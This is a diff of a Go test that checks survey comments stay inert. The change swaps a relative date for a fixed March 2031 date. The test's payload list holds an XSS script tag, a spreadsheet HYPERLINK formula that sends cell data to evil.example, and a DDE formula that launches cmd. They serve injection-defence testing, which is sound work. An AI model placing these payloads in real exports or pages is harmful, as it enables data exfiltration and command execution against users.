@@ -273,7 +273,7 @@ func TestCentralCommentMarkupAndFormulasInert(t *testing.T) {
 	const xss, formula = `<script>alert("xss")</script>`, `=HYPERLINK("http://evil.example/?d="&A1,"klik")`
 	payloads := []string{xss, formula, "@SUM(1+1)*cmd|' /C calc'!A0", "+62 812", "-1+1"}
 	i := 0
-	rs.MustIngestRatings(t, nipSiti, "KIA", reportNow.AddDate(0, 0, -8), time.Hour, repeatRatings(12, all(3)), func(r *survey.Response) {
+	rs.MustIngestRatings(t, nipSiti, "KIA", time.Date(2031, 3, 20, 9, 0, 0, 0, wib), time.Hour, repeatRatings(12, all(3)), func(r *survey.Response) { // March: settled
 		r.Comment = payloads[i%len(payloads)]
 		i++
 	})
